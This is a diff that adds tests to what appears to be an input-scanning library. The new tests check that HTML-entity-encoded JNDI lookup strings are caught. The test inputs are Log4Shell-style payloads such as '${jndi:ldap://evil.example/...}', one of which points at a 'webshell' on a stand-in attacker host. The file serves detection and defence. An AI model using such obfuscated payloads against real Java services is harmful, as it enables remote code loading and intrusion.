@@ -589,3 +589,12 @@ describe("PowerShell that fetches or runs code (cmdi)", () => {
     for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
   });
 });
+
+describe("HTML entities for braces, '$' and brackets", () => {
+  it("decodes them before the lookup rules (with and without ';' for braces)", () => {
+    expect(hits("$&lbrace;jndi:ldap://evil.example/a&rbrace;", AttackClass.Jndi)).toBe(true);
+    expect(hits("$&lbracejndi:ldap://evil.example/webshell}", AttackClass.Jndi)).toBe(true);
+    expect(hits("&dollar;&lcub;jndi:rmi://evil.example/a&rcub;", AttackClass.Jndi)).toBe(true);
+    expect(clean("&lbrace; and &rbrace; are braces")).toBe(true);
+  });
+});
